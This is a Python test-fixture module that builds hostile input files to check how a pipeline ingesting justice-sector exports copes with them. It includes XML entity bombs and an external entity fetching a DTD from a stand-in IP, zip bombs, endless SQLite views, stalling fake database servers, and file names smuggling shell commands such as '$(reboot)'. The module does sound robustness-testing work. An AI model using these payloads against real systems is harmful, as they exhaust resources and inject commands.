"""Deliveries that somebody, or a broken export, made to stop a run: each is written into a folder by a function of its name.

Belongs here: the deliveries. Does not belong here: what becomes of a run that meets them (`test_hostile`,
`benchmarks/hostile_deliveries.py`). Each takes a folder with the good delivery of its institution for the quarter in it, and spoils it.
All persons are made up.
"""

from __future__ import annotations

import os
import random
import socket
import sqlite3
import stat
import struct
import threading
import time
import zipfile
from collections.abc import Callable, Iterable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

from reader_world import PERSONAT, RASTET, deliver, text

PERIOD = "2013-Q2"  # of the good deliveries in `reader_world`
Spoil = Callable[[Path], object]


@dataclass
class Hostile:
    """A delivery of `institution`. `rest`: files of it beside the spoilt one are read; `environment`: what the run is given."""

    name: str
    institution: str
    spoil: Spoil
    environment: dict[str, str] = field(default_factory=dict)

    def write(self, inbox: Path) -> Path:
        """Write the delivery into an inbox."""
        folder = inbox / self.institution / PERIOD
        deliver(self.institution, folder)
        said = self.spoil(folder)
        if isinstance(said, dict):
            self.environment = said
        return folder


HOSTILE: dict[str, Hostile] = {}


def hostile(institution: str) -> Callable[[Spoil], Spoil]:
    """Enter a function under its name."""

    def enter(spoil: Spoil) -> Spoil:
        HOSTILE[spoil.__name__] = Hostile(spoil.__name__, institution, spoil)
        return spoil

    return enter


# --- XML ---------------------------------------------------------------------------------------------------------------------

_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<eksporti xmlns="urn:kgjk:smil:1" periudha="2013-Q2" krijuar="2013-07-05T09:12:00">\n'
_CASE = '<lenda nr="PKR.nr.{n}/2013" gjykata="Prishtinë" dega="" gjuha="sq"><pranuar>2013-05-03</pranuar>{inner}</lenda>\n'
_MAN = (
    '<i_pandehur id="1"><emri>Arbër</emri><mbiemri>Krasniqi</mbiemri><emri_babait>Hasan</emri_babait>{inner}<datelindja>1979-02-11'
    '</datelindja><gjinia>M</gjinia><akuza ligji="KPRK2012" neni="171" paragrafi="1" kryesore="po"/></i_pandehur>'
)


def _xml(folder: Path, parts: Iterable[str], head: str = _HEAD, tail: str = "</eksporti>") -> None:
    with (folder / "smil.xml").open("w", encoding="utf-8") as file:
        file.write(head)
        file.writelines(parts)
        file.write(tail)


@hostile("courts")
def xml_cases_opened_in_one_another(folder: Path) -> None:
    _xml(folder, ('<lenda nr="PKR.nr.1/2013">' for _ in range(200_000)), tail="")


@hostile("courts")
def xml_cases_opened_and_closed_in_one_another(folder: Path) -> None:
    _xml(folder, ['<lenda nr="PKR.nr.1/2013">' * 200_000, "</lenda>" * 200_000])


@hostile("courts")
def xml_persons_in_persons(folder: Path) -> None:
    _xml(folder, (_CASE.format(n=n, inner='<i_pandehur id="1">' * 60 + "</i_pandehur>" * 60) for n in range(5_000)))


@hostile("courts")
def xml_a_million_attributes(folder: Path) -> None:
    _xml(folder, ['<lenda nr="PKR.nr.1/2013" ', *(f'a{n}="x" ' for n in range(1_000_000)), "/>"])


@hostile("courts")
def xml_an_attribute_of_nine_megabytes_a_case(folder: Path) -> None:
    _xml(folder, (f'<lenda nr="PKR.nr.{n}/2013" gjykata="{"P" * 9_000_000}"/>' for n in range(20)))


@hostile("courts")
def xml_entities_of_entities(folder: Path) -> None:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 20))
    _xml(
        folder,
        [_CASE.format(n=1, inner=_MAN.format(inner="<x>&e19;</x>"))],
        _HEAD.replace("<eksporti", f'<!DOCTYPE eksporti [<!ENTITY e0 "ha">{entities}]><eksporti'),
    )


@hostile("courts")
def xml_entities_from_elsewhere(folder: Path) -> None:
    outside = '<!DOCTYPE eksporti [<!ENTITY a SYSTEM "file:///dev/zero"><!ENTITY % b SYSTEM "http://192.0.2.1/x.dtd">%b;]>'
    _xml(folder, [_CASE.format(n=1, inner=_MAN.format(inner="<x>&a;</x>"))], _HEAD.replace("<eksporti", f"{outside}<eksporti"))


@hostile("courts")
def xml_a_name_of_a_hundred_megabytes(folder: Path) -> None:
    _xml(
        folder,
        ["<lenda nr='PKR.nr.1/2013'><i_pandehur id='1'><emri>", *("Arbër " * 10_000 for _ in range(1_700)), "</emri></i_pandehur></lenda>"],
    )


@hostile("courts")
def xml_names_of_a_megabyte(folder: Path) -> None:
    long = "Arbër " * 160_000
    _xml(folder, (_CASE.format(n=n, inner=_MAN.format(inner="").replace("Krasniqi", long)) for n in range(60)))


@hostile("courts")
def xml_a_million_namespaces(folder: Path) -> None:
    _xml(folder, ["<lenda nr='PKR.nr.1/2013' ", *(f'xmlns:n{n}="urn:{n}" ' for n in range(500_000)), "/>"])


@hostile("courts")
def xml_a_namespace_for_each_case(folder: Path) -> None:
    _xml(folder, (f'<n{n}:lenda xmlns:n{n}="urn:{n}" nr="PKR.nr.{n}/2013"/>\n' for n in range(200_000)))


@hostile("courts")
def xml_an_element_name_for_each_value(folder: Path) -> None:
    _xml(folder, [_CASE.format(n=1, inner="".join(f"<e{n}>x</e{n}>" for n in range(300_000)))])


@hostile("courts")
def xml_one_case_five_hundred_thousand_times(folder: Path) -> None:
    _xml(folder, (_CASE.format(n=1, inner="") for _ in range(500_000)))


@hostile("courts")
def xml_a_crowd_of_one_name(folder: Path) -> None:
    _xml(folder, (_CASE.format(n=n, inner=_MAN.format(inner="")) for n in range(100_000)))


@hostile("courts")
def xml_comments_that_never_end(folder: Path) -> None:
    _xml(folder, [_CASE.format(n=1, inner=""), "<!-- " * 1_000_000, "<![CDATA[" * 1_000_000])


@hostile("courts")
def xml_cases_each_broken(folder: Path) -> None:
    _xml(folder, (f'<lenda nr="PKR.nr.{n}/2013" <<i_pandehur id="1"></lenda>\n' for n in range(300_000)))


@hostile("courts")
def xml_start_tags_that_never_end(folder: Path) -> None:
    _xml(folder, ["<lenda nr='PKR.nr.1/2013' ", "<i_pandehur " * 2_000_000])


# --- delimited text ----------------------------------------------------------------------------------------------------------


def _rows(pattern: str, number: int) -> str:
    return "".join(pattern.format(n=n) + "\r\n" for n in range(number))


@hostile("police")
def csv_a_million_columns(folder: Path) -> None:
    (folder / "rastet.csv").write_text(
        RASTET[0] + ";" + ";".join(f"k{n}" for n in range(1_000_000)) + "\r\n" + ";" * 1_000_010 + "\r\n", "cp1250"
    )


@hostile("police")
def csv_one_line_of_two_hundred_megabytes(folder: Path) -> None:
    with (folder / "personat.csv").open("wb") as file:
        file.write(PERSONAT[0].encode("cp1250") + b"\r\n")
        for _ in range(200):
            file.write(b"A" * 1_000_000)


@hostile("police")
def csv_nothing_but_nuls(folder: Path) -> None:
    (folder / "personat.csv").write_bytes(text(PERSONAT[:2]).encode("cp1250") + bytes(100_000_000))


@hostile("police")
def csv_quotes_that_never_end(folder: Path) -> None:
    (folder / "rastet.csv").write_text(RASTET[0] + "\r\n" + _rows('2013-PR-{n:05};"04.01.2013;"";"', 90_000), "cp1250")


@hostile("police")
def csv_nothing_but_line_ends(folder: Path) -> None:
    (folder / "rastet.csv").write_bytes(text(RASTET).encode("cp1250") + b"\r\n" * 50_000_000)


@hostile("police")
def csv_a_million_lines_of_rubbish(folder: Path) -> None:
    draw = random.Random(1)
    (folder / "rastet.csv").write_bytes(text(RASTET).encode("cp1250") + b"".join(draw.randbytes(40) + b"\n" for _ in range(1_000_000)))


@hostile("police")
def csv_names_of_a_megabyte(folder: Path) -> None:
    row = "2013-PR-{n:05};1;I dyshuar;" + "Krasniqi " * 110_000 + ";Gëzim;Hasan;;11.02.1979;Prishtinë;Prishtinë;M;Kosovë;04.01.2013"
    (folder / "personat.csv").write_text(PERSONAT[0] + "\r\n" + _rows(row, 60), "cp1250")


@hostile("police")
def csv_cells_that_patterns_dislike(folder: Path) -> None:
    """Long runs of what dates, articles, numbers and words are looked for in."""
    runs = [
        "1" * 100_000,
        "1." * 50_000,
        " 1/" * 30_000,
        "171 par. " * 10_000,
        "neni neni " * 10_000,
        "2013-" * 20_000,
        "(" * 50_000,
        " " * 99_999 + "x",
    ]
    lines = [";".join([f"2013-PR-{n:05}", *([runs[n % len(runs)]] * 10)]) for n in range(40)]
    (folder / "rastet.csv").write_text(text([RASTET[0], *lines]), "cp1250")


@hostile("police")
def csv_a_fault_in_every_cell(folder: Path) -> None:
    row = "2013-PR-{n:05};99.99.2013;31.02.2013;x;{n};Atlantidë;Fluturim;999/99;Kurrë;Askund;PP?{n}"
    (folder / "rastet.csv").write_text(RASTET[0] + "\r\n" + _rows(row, 99_999), "cp1250")


@hostile("police")
def csv_one_person_three_hundred_thousand_times(folder: Path) -> None:
    row = "2013-PR-00001;{n};I dyshuar;Krasniqi;Gëzim;Hasan;1234567892;11.02.1979;Prishtinë;Prishtinë;M;Kosovë;04.01.2013"
    (folder / "personat.csv").write_text(PERSONAT[0] + "\r\n" + _rows(row, 300_000), "cp1250")


@hostile("police")
def csv_millions_of_rows(folder: Path) -> None:
    row = "2013-PR-{n:05};04.01.2013;01.01.2013;;Stacioni;Prishtinë;Trafikim me njerëz;171/1 KPRK;;Nën hetim;"
    (folder / "rastet.csv").write_text(RASTET[0] + "\r\n" + _rows(row, 1_900_000), "cp1250")


# --- databases ---------------------------------------------------------------------------------------------------------------


def _sql(folder: Path, script: str) -> None:
    db = sqlite3.connect(folder / "psh.sqlite")
    db.executescript(script)
    db.close()


_ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
_PARTY = (
    "i AS pala_id, 11 AS lenda_id, 'D' AS roli, {name} AS emri_mbiemri, '' AS emri_babait, '' AS nr_personal, '1979-02-11' AS datelindja"
)
_PARTY += ", '1' AS gjinia, 'XKX' AS shtetesia, '' AS komuna"


@hostile("prosecution")
def sqlite_a_view_without_end(folder: Path) -> None:
    _sql(folder, f"DROP TABLE pala; CREATE VIEW pala AS {_ENDLESS} SELECT {_PARTY.format(name=chr(39) + 'Gashi' + chr(39))} FROM n")


@hostile("prosecution")
def sqlite_a_view_of_huge_cells(folder: Path) -> None:
    _sql(folder, f"DROP TABLE pala; CREATE VIEW pala AS {_ENDLESS} SELECT {_PARTY.format(name='hex(zeroblob(400000000))')} FROM n LIMIT 9")


@hostile("prosecution")
def sqlite_a_view_that_thinks_for_ever(folder: Path) -> None:
    _sql(folder, f"DROP TABLE pala; CREATE VIEW pala AS {_ENDLESS} SELECT {_PARTY.format(name='count(*)')} FROM n")


@hostile("prosecution")
def sqlite_views_on_views(folder: Path) -> None:
    views = "".join(f"CREATE VIEW v{n} AS SELECT * FROM v{n - 1} UNION ALL SELECT * FROM v{n - 1};" for n in range(1, 60))
    _sql(folder, f"ALTER TABLE pala RENAME TO v0; {views} CREATE VIEW pala AS SELECT * FROM v59")


@hostile("prosecution")
def sqlite_generated_columns_and_triggers(folder: Path) -> None:
    _sql(
        folder,
        "CREATE TABLE big(a INTEGER, b TEXT GENERATED ALWAYS AS (hex(zeroblob(100000000))) VIRTUAL);"
        "INSERT INTO big(a) VALUES (1), (2), (3);"
        "CREATE TRIGGER t AFTER INSERT ON lenda BEGIN DELETE FROM pala; END;"
        "ALTER TABLE pala ADD COLUMN c TEXT GENERATED ALWAYS AS (printf('%.*c', 90000000, 'x')) VIRTUAL;",
    )


@hostile("prosecution")
def sqlite_pages_exchanged(folder: Path) -> None:
    _sql(folder, _filled(40_000))
    data = bytearray((folder / "psh.sqlite").read_bytes())
    draw = random.Random(3)
    for _ in range(len(data) // 8192):
        at, to = (draw.randrange(1, len(data) // 4096) * 4096 for _ in range(2))
        data[to : to + 4096] = data[at : at + 4096]
    (folder / "psh.sqlite").write_bytes(data)


@hostile("prosecution")
def sqlite_pages_in_a_ring(folder: Path) -> None:
    """Every inner page of a large table leads back to its root."""
    _sql(folder, _filled(200_000))
    data = bytearray((folder / "psh.sqlite").read_bytes())
    inner = [at for at in range(4096, len(data), 4096) if data[at] == 5]
    for at in inner:
        data[at + 8 : at + 12] = struct.pack(">I", inner[0] // 4096 + 1)
        cells = struct.unpack(">H", data[at + 3 : at + 5])[0]
        for n in range(cells):
            cell = at + struct.unpack(">H", data[at + 12 + 2 * n : at + 14 + 2 * n])[0]
            data[cell : cell + 4] = struct.pack(">I", inner[0] // 4096 + 1)
    (folder / "psh.sqlite").write_bytes(data)


def _filled(rows: int) -> str:
    return (
        f"INSERT INTO lenda SELECT i, 'PP.I.nr.' || i || '/2013', '2013-02-02', 'TJ', NULL, 'Prishtinë', 'HET', '2013-02-02' FROM ("
        f"{_ENDLESS} SELECT i + 1000 AS i FROM n LIMIT {rows})"
    )


@hostile("prosecution")
def sqlite_a_log_beside_that_is_none(folder: Path) -> None:
    (folder / "psh.sqlite-wal").write_bytes(struct.pack(">I", 0x377F0682) + random.Random(4).randbytes(5_000_000))
    (folder / "psh.sqlite-journal").write_bytes(bytes.fromhex("d9d505f920a163d7") + random.Random(5).randbytes(100_000))


@hostile("prosecution")
def sqlite_five_thousand_tables(folder: Path) -> None:
    _sql(folder, "BEGIN;" + "".join(f"CREATE TABLE t{n}(a, b);" for n in range(5_000)) + "COMMIT;")


@hostile("prosecution")
def sqlite_two_thousand_columns(folder: Path) -> None:
    columns = ",".join(f"k{n} TEXT DEFAULT 'x'" for n in range(1_990))
    _sql(
        folder,
        f"CREATE TABLE pala2 (pala_id INTEGER PRIMARY KEY, {columns}); INSERT INTO pala2(pala_id) {_ENDLESS} SELECT i FROM n LIMIT 20000",
    )


@hostile("prosecution")
def sqlite_cells_of_many_megabytes(folder: Path) -> None:
    _sql(folder, "UPDATE pala SET emri_mbiemri = replace(hex(zeroblob(20000000)), '00', 'Gashi '), emri_babait = hex(zeroblob(20000000))")


@hostile("prosecution")
def dump_of_brackets(folder: Path) -> None:
    (folder / "psh.sqlite").unlink()
    (folder / "psh.dump").write_text('{"dump": "psh", "tables": {"lenda": ' + "[" * 5_000_000 + "\n" + "[" * 5_000_000)


@hostile("prosecution")
def dump_of_one_party_a_million_times(folder: Path) -> None:
    (folder / "psh.sqlite").unlink()
    head = (
        '{"dump": "psh", "others": [], "tables": {"lenda": ["lenda_id", "nr_lendes"], "pala": ["pala_id", "lenda_id", "emri_mbiemri"]}}\n'
    )
    (folder / "psh.dump").write_text(head + '["lenda", 11, "PP.I.nr.34/2013"]\n' + '["pala", 21, 11, "Arben Gashi"]\n' * 1_000_000)


# --- servers -----------------------------------------------------------------------------------------------------------------

_WELCOME = b"R\0\0\0\x08\0\0\0\0" + b"Z\0\0\0\x05I"


def _server(folder: Path, says: Callable[[socket.socket], None]) -> dict[str, str]:
    """A server on this machine that `says` something to whoever calls; gives the environment of a run that is to call it."""
    listening = socket.create_server(("127.0.0.1", 0))

    def one(call: socket.socket) -> None:
        with suppress(OSError):
            says(call)
            time.sleep(3600)

    def serve() -> None:
        while True:
            call, _ = listening.accept()
            threading.Thread(target=one, args=(call,), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    (folder / "psh.sqlite").unlink()
    (folder / "psh.url").write_text("PSH_HOSTILE\n")
    return {"PSH_HOSTILE": f"postgresql://psh:secret@127.0.0.1:{listening.getsockname()[1]}/psh"}


def _greeted(call: socket.socket) -> None:
    while b"user" not in (asked := call.recv(4096)):
        call.sendall(b"N" if asked else b"")


@hostile("prosecution")
def server_that_never_answers(folder: Path) -> dict[str, str]:
    return _server(folder, lambda _: None)


@hostile("prosecution")
def server_that_lets_in_and_falls_silent(folder: Path) -> dict[str, str]:
    def says(call: socket.socket) -> None:
        _greeted(call)
        call.sendall(_WELCOME)

    return _server(folder, says)


@hostile("prosecution")
def server_that_sends_rubbish(folder: Path) -> dict[str, str]:
    def says(call: socket.socket) -> None:
        while True:
            call.sendall(random.Random(6).randbytes(1 << 16))

    return _server(folder, says)


@hostile("prosecution")
def server_that_streams_without_end(folder: Path) -> dict[str, str]:
    """Lets in, and answers whatever is asked with rows that never stop."""

    def says(call: socket.socket) -> None:
        _greeted(call)
        call.sendall(_WELCOME)
        call.recv(4096)
        name = b"table_name\0"
        call.sendall(
            b"1\0\0\0\x04"
            + b"2\0\0\0\x04"
            + b"T"
            + struct.pack(">IH", 6 + len(name) + 18, 1)
            + name
            + struct.pack(">IHIHIH", 0, 0, 25, 0xFFFF, 0xFFFFFFFF, 0)
        )
        row = b"D" + struct.pack(">IHI", 10 + 60_000, 1, 60_000) + b"x" * 60_000
        while True:
            call.sendall(row)

    return _server(folder, says)


@hostile("prosecution")
def server_that_drips(folder: Path) -> dict[str, str]:
    def says(call: socket.socket) -> None:
        _greeted(call)
        for byte in b"R\0\0\0\x08\0\0\0\0" + b"S\0\0\xff\xff" + b"a" * 65_536:
            call.sendall(bytes([byte]))
            time.sleep(1)

    return _server(folder, says)


# --- workbooks ---------------------------------------------------------------------------------------------------------------

_SHEET = "xl/worksheets/sheet1.xml"
_CELLS = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'


def _with_part(book: Path, name: str, parts: Iterable[bytes]) -> None:
    """Put a part, written in pieces, into a workbook in place of one of that name."""
    fresh = book.with_suffix(".new")
    with zipfile.ZipFile(book) as old, zipfile.ZipFile(fresh, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for info in old.infolist():
            if info.filename != name:
                new.writestr(info, old.read(info))
        with new.open(name, "w", force_zip64=True) as out:
            for part in parts:
                out.write(part)
    fresh.replace(book)


def _sheet(folder: Path, cells: Iterable[bytes]) -> None:
    _with_part(folder / "shkk.xlsx", _SHEET, [_CELLS.encode(), *cells, b"</sheetData></worksheet>"])


@hostile("corrections")
def xlsx_a_sheet_that_unpacks_to_gigabytes(folder: Path) -> None:
    _with_part(folder / "shkk.xlsx", _SHEET, (b" " * 10_000_000 for _ in range(400)))


@hostile("corrections")
def xlsx_shared_strings_of_a_gigabyte(folder: Path) -> None:
    strings = (b"<si><t>" + b"A" * 9_000_000 + b"</t></si>" for _ in range(110))
    _with_part(
        folder / "shkk.xlsx",
        "xl/sharedStrings.xml",
        (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">', *strings, b"</sst>"),
    )


@hostile("corrections")
def xlsx_a_string_of_a_megabyte_in_every_cell(folder: Path) -> None:
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + b"A" * 1_000_000 + b"</t></si></sst>"
    _with_part(folder / "shkk.xlsx", "xl/sharedStrings.xml", [strings])
    row = b"<row>" + b'<c t="s"><v>0</v></c>' * 16 + b"</row>"
    _sheet(folder, (row for _ in range(20_000)))


@hostile("corrections")
def xlsx_a_cell_in_the_last_corner(folder: Path) -> None:
    _sheet(folder, [b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'])


@hostile("corrections")
def xlsx_cells_in_many_corners(folder: Path) -> None:
    _sheet(folder, (f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>'.encode() for n in range(1, 200_000)))


@hostile("corrections")
def xlsx_a_million_merged_cells(folder: Path) -> None:
    merged = (f'<mergeCell ref="A{n}:C{n + 1}"/>'.encode() for n in range(1, 1_000_000))
    _with_part(folder / "shkk.xlsx", _SHEET, [_CELLS.encode(), b"</sheetData><mergeCells>", *merged, b"</mergeCells></worksheet>"])


@hostile("corrections")
def xlsx_elements_in_one_another(folder: Path) -> None:
    _sheet(folder, [b'<row r="1">' * 300_000])


@hostile("corrections")
def xlsx_two_million_short_rows(folder: Path) -> None:
    _sheet(folder, (b"<row><c><v>1</v></c></row>" for _ in range(1_048_576)))


@hostile("corrections")
def xlsx_parts_upon_parts(folder: Path) -> None:
    """Many names of the directory lead to the same bytes."""
    book = folder / "shkk.xlsx"
    with zipfile.ZipFile(book, "a", zipfile.ZIP_DEFLATED) as file:
        file.writestr("xl/media/a.bin", bytes(50_000_000))
        first = file.getinfo("xl/media/a.bin")
        for n in range(200):
            again = zipfile.ZipInfo(f"xl/media/b{n}.bin")
            again.compress_type, again.CRC, again.compress_size, again.file_size = (
                first.compress_type,
                first.CRC,
                first.compress_size,
                first.file_size,
            )
            again.header_offset = first.header_offset
            file.filelist.append(again)
            file.NameToInfo[again.filename] = again
        file._didModify = True  # type: ignore[attr-defined]


@hostile("inspectorate")
def xlsx_ten_thousand_sheets(folder: Path) -> None:
    book = folder / "raporti.xlsx"
    fresh = book.with_suffix(".new")
    with zipfile.ZipFile(book) as old, zipfile.ZipFile(fresh, "w", zipfile.ZIP_DEFLATED) as new:
        parts = {info.filename: old.read(info) for info in old.infolist()}
        sheet = parts[_SHEET]
        names = range(2, 10_002)
        book_xml, rels = parts["xl/workbook.xml"].decode(), parts["xl/_rels/workbook.xml.rels"].decode()
        sheets = "".join(
            f'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" name="S{n}" sheetId="{n}" r:id="x{n}"/>'
            for n in names
        )
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
        links = "".join(f'<Relationship Id="x{n}" Type="{kind}" Target="/xl/worksheets/s{n}.xml"/>' for n in names)
        parts["xl/workbook.xml"] = book_xml.replace("</sheets>", sheets + "</sheets>").encode()
        parts["xl/_rels/workbook.xml.rels"] = rels.replace("</Relationships>", links + "</Relationships>").encode()
        parts |= {f"xl/worksheets/s{n}.xml": sheet for n in names}
        for name, data in parts.items():
            new.writestr(name, data)
    fresh.replace(book)


@hostile("inspectorate")
def xlsx_a_formula_in_every_cell(folder: Path) -> None:
    formula = b"<f>" + b"SUM(A1:A9)+" * 500 + b"1</f>"
    _with_part(
        folder / "raporti.xlsx",
        _SHEET,
        [
            _CELLS.encode(),
            *(f'<row r="{n}">'.encode() + b"<c>" + formula + b"</c></row>" for n in range(1, 20_000)),
            b"</sheetData></worksheet>",
        ],
    )


# --- the folder --------------------------------------------------------------------------------------------------------------


@hostile("police")
def folder_of_pipes_links_and_devices(folder: Path) -> None:
    for path in (folder / "rastet.csv", folder / "personat.csv"):
        path.unlink()
    os.mkfifo(folder / "rastet.csv")
    (folder / "personat.csv").symlink_to("/dev/zero")
    with suppress(PermissionError):
        os.mknod(folder / "zero", 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(os.path.relpath(folder / "socket"))


@hostile("police")
def folder_for_a_file(folder: Path) -> None:
    (folder / "rastet.csv").unlink()
    (folder / "rastet.csv").mkdir()
    deep = folder / "rastet.csv"
    for _ in range(300):
        deep = deep / "d"
        deep.mkdir()


@hostile("police")
def folder_of_odd_names(folder: Path) -> None:
    for name in (b"a\nb.csv", b"\xff\xfe.csv", "‮vsc.tetsar".encode(), b"x" * 255, b"-rf", b"$(reboot).csv", b"rastet.csv\r", b"\x1b[2J"):
        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_bytes(b"x")


@hostile("police")
def folder_of_fifty_thousand_files(folder: Path) -> None:
    for n in range(50_000):
        (folder / f"{n}.csv").write_bytes(b"%d" % n)


@hostile("police")
def folder_with_a_file_of_a_terabyte(folder: Path) -> None:
    """Without a block on the disk."""
    with (folder / "personat.csv").open("r+b") as file:
        file.truncate(1 << 40)


@hostile("police")
def folder_that_may_not_be_read(folder: Path) -> None:
    (folder / "rastet.csv").chmod(0)
    (folder / "inner").mkdir()
    (folder / "inner").chmod(0)


@hostile("police")
def folder_that_changes_while_it_is_read(folder: Path) -> None:
    def write() -> None:
        with suppress(OSError):
            for _ in range(2_000):
                with (folder / "rastet.csv").open("ab") as file:
                    file.write(b"2013-PR-00009;04.01.2013\r\n")
                time.sleep(0.01)

    threading.Thread(target=write, daemon=True).start()
